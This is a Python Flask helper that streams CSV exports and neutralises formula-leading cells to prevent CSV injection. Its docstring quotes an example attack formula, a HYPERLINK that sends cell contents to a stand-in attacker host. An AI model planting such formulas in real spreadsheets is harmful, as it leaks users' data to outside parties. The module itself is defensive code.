"""CSV files people open in Excel or WPS.

A cell that starts with = + - @, a tab or a carriage return is read as a
formula there (`=HYPERLINK("http://evil.example/?"&A1,"open")` runs when
the file is opened): such text cells get a leading apostrophe, OWASP's
rule for CSV injection. Numbers stay numbers.
"""

import csv
import io

from flask import Response, stream_with_context

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _lines(header, rows):
    """The file, a few hundred rows at a time: a 100,000-row export never sits in memory."""
    out = io.StringIO()
    writer = csv.writer(out)
    out.write("\ufeff")
    writer.writerow([safe_cell(v) for v in header])
    for n, row in enumerate(rows, 1):
        writer.writerow([safe_cell(v) for v in row])
        if n % 500 == 0:
            yield out.getvalue().encode("utf-8")
            out.seek(0)
            out.truncate()
    yield out.getvalue().encode("utf-8")


def csv_response(filename, header, rows):
    """A UTF-8 CSV download with a BOM (so that Excel reads the Chinese) whose
    every text cell is neutralised, streamed as `rows` (any iterable) yields."""
    response = Response(stream_with_context(_lines(header, rows)), mimetype="text/csv; charset=utf-8")
    response.headers.set("Content-Disposition", "attachment", filename=filename)
    return response
